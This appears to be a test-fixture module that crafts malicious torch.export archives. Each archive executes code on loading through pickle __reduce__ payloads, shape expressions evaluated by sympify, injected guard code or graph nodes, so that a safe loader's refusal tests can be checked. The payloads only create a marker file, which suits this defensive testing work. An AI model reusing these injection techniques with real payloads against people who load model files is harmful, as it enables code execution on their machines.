"""torch.export archives crafted to run code as torch.export.load (torch 2.13) reads them.

Each ``craft_*`` function writes, from a genuine ``torch.export.save`` archive, one whose loading would
create ``marker``: the payload is ``open(marker, "w")``, which runs no shell and leaves a file to look for.
``RUNS_ON_LOAD`` lists the crafts that plain ``torch.export.load`` falls for (tests/test_hostile_loading.py
checks that they do, so each refusal test can fail).
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch
from torch import nn


class Payload:
    """Unpickling it opens ``marker`` for writing, which creates the file."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def small_model() -> nn.Module:
    torch.manual_seed(0)
    return nn.Sequential(nn.Linear(8, 16), nn.ReLU(), nn.Linear(16, 4)).eval()


def save_program(path: Path, *, dynamic: bool = False, model: nn.Module | None = None) -> Path:
    """A genuine archive; ``dynamic`` makes the batch dimension symbolic, so the program holds shape
    expressions (``Symbol('s31', positive=True, integer=True)``)."""
    model = model or small_model()
    shapes = ({0: torch.export.Dim("batch", min=2, max=64)},) if dynamic else None
    program = torch.export.export(model, (torch.randn(4, 8),), dynamic_shapes=shapes)
    torch.export.save(program, str(path))
    return path


def torch_saved(obj) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def rewrite(source: Path, target: Path, change: Callable[[str, bytes], bytes | None], add: dict | None = None) -> Path:
    """Copy the archive entry by entry through ``change(name, data)`` (None drops the entry), adding
    ``add`` (names relative to the archive's root folder)."""
    with zipfile.ZipFile(source) as archive_in, zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as archive_out:
        root = archive_in.namelist()[0].split("/")[0]
        for info in archive_in.infolist():
            data = change(info.filename.split("/", 1)[1], archive_in.read(info.filename))
            if data is not None:
                archive_out.writestr(info.filename, data)
        for name, data in (add or {}).items():
            archive_out.writestr(f"{root}/{name}", data)
    return target


def _edit_json(name: str, edit: Callable[[dict], None]) -> Callable[[str, bytes], bytes]:
    def change(entry: str, data: bytes) -> bytes:
        if entry != name:
            return data
        document = json.loads(data)
        edit(document)
        return json.dumps(document).encode()

    return change


def craft_sample_inputs(folder: Path, marker: Path, name: str = "evil.pt2") -> Path:
    """The saved example inputs are a pickle (issue 21's case): torch falls back to weights_only=False."""
    genuine = save_program(folder / "genuine.pt2")
    payload = torch_saved(Payload(marker))
    return rewrite(
        genuine, folder / name, lambda entry, data: payload if entry == "data/sample_inputs/model.pt" else data
    )


def craft_pickled_weight(folder: Path, marker: Path) -> Path:
    """A weight marked use_pickle, which torch.load(weights_only=False) reads."""
    genuine = save_program(folder / "genuine.pt2")

    def mark(document: dict) -> None:
        entry = next(iter(document["config"].values()))
        entry["use_pickle"] = True
        entry["path_name"] = "weight_pickled"

    change = _edit_json("data/weights/model_weights_config.json", mark)
    return rewrite(
        genuine, folder / "evil.pt2", change, add={"data/weights/weight_pickled": torch_saved(Payload(marker))}
    )


def craft_pickled_constant(folder: Path, marker: Path) -> Path:
    """A tensor constant marked use_pickle."""
    genuine = save_program(folder / "genuine.pt2")

    def add_constant(document: dict) -> None:
        document["config"]["evil"] = {
            "path_name": "tensor_evil",
            "is_param": False,
            "use_pickle": True,
            "tensor_meta": None,
        }

    change = _edit_json("data/constants/model_constants_config.json", add_constant)
    return rewrite(
        genuine, folder / "evil.pt2", change, add={"data/constants/tensor_evil": torch_saved(Payload(marker))}
    )


def craft_opaque_object(folder: Path, marker: Path) -> Path:
    """An opaque object constant, which torch reads with pickle.loads."""
    genuine = save_program(folder / "genuine.pt2")

    def add_object(document: dict) -> None:
        document["config"]["evil"] = {
            "path_name": "opaque_obj_evil",
            "is_param": False,
            "use_pickle": True,
            "tensor_meta": None,
        }

    change = _edit_json("data/constants/model_constants_config.json", add_object)
    return rewrite(
        genuine, folder / "evil.pt2", change, add={"data/constants/opaque_obj_evil": pickle.dumps(Payload(marker))}
    )


def craft_legacy_weights(folder: Path, marker: Path) -> Path:
    """The legacy weights file data/weights/model.pt, read with torch.load's weights_only=False fallback."""
    genuine = save_program(folder / "genuine.pt2")
    return rewrite(
        genuine,
        folder / "evil.pt2",
        lambda entry, data: data,
        add={"data/weights/model.pt": torch_saved(Payload(marker))},
    )


def craft_shape_expression(folder: Path, marker: Path) -> Path:
    """A shape expression that is Python code: torch parses it with sympy.sympify, which evaluates it."""
    genuine = save_program(folder / "genuine.pt2", dynamic=True)
    code = f"__import__('builtins').open({str(marker)!r}, 'w') and Symbol("

    def change(entry: str, data: bytes) -> bytes:
        return data.replace(b"Symbol(", code.encode()) if entry == "models/model.json" else data

    return rewrite(genuine, folder / "evil.pt2", change)


def craft_old_format(folder: Path, marker: Path) -> Path:
    """The torch 2.7 zip format that torch.export.load falls back to: its constants are a pickle."""
    from torch._export.serde.schema import SCHEMA_VERSION

    genuine = save_program(folder / "genuine.pt2")
    with zipfile.ZipFile(genuine) as archive:
        root = archive.namelist()[0].split("/")[0]
        program = archive.read(f"{root}/models/model.json")
    target = folder / "evil.pt2"
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("version", ".".join(map(str, SCHEMA_VERSION)))
        archive.writestr("serialized_exported_program.json", program)
        archive.writestr("serialized_state_dict.pt", torch_saved(small_model().state_dict()))
        archive.writestr("serialized_constants.pt", torch_saved(Payload(marker)))
        archive.writestr("serialized_example_inputs.pt", torch_saved(((torch.randn(4, 8),), {})))
    return target


def craft_call_target(folder: Path, marker: Path) -> Path:
    """A graph node calling a Python function reached through torch (``torch.os.system`` resolves); torch's
    verifier must refuse it while loading, before anything runs it."""
    genuine = save_program(folder / "genuine.pt2")

    def add_node(document: dict) -> None:
        graph = document["graph_module"]["graph"]
        graph["tensor_values"]["evil"] = graph["tensor_values"]["linear"]
        graph["nodes"].insert(0, {
            "target": "torch.builtins.open",
            "inputs": [
                {"name": "file", "arg": {"as_string": str(marker)}, "kind": 1},
                {"name": "mode", "arg": {"as_string": "w"}, "kind": 1},
            ],
            "outputs": [{"as_tensor": {"name": "evil"}}],
            "metadata": {},
            "name": "evil",
        })  # fmt: skip

    return rewrite(genuine, folder / "evil.pt2", _edit_json("models/model.json", add_node))


def craft_guards(folder: Path, marker: Path) -> Path:
    """Guard code, which ExportedProgram.module() would exec (gradcheck uses torch.export.unflatten)."""
    genuine = save_program(folder / "genuine.pt2")

    def add_guard(document: dict) -> None:
        document["guards_code"] = [f"__import__('builtins').open({str(marker)!r}, 'w') is not None"]

    return rewrite(genuine, folder / "evil.pt2", _edit_json("models/model.json", add_guard))


def craft_compiled_code(folder: Path, marker: Path) -> Path:
    """An AOTInductor entry: torch.export.load would load its shared library (native code)."""
    genuine = save_program(folder / "genuine.pt2")
    return rewrite(
        genuine, folder / "evil.pt2", lambda entry, data: data, add={"data/aotinductor/model/model.so": b"\x7fELF"}
    )


# The crafts plain torch.export.load runs the payload of (checked by the tests, so the refusals can fail).
RUNS_ON_LOAD = (
    craft_sample_inputs,
    craft_pickled_weight,
    craft_pickled_constant,
    craft_opaque_object,
    craft_legacy_weights,
    craft_shape_expression,
    craft_old_format,
)
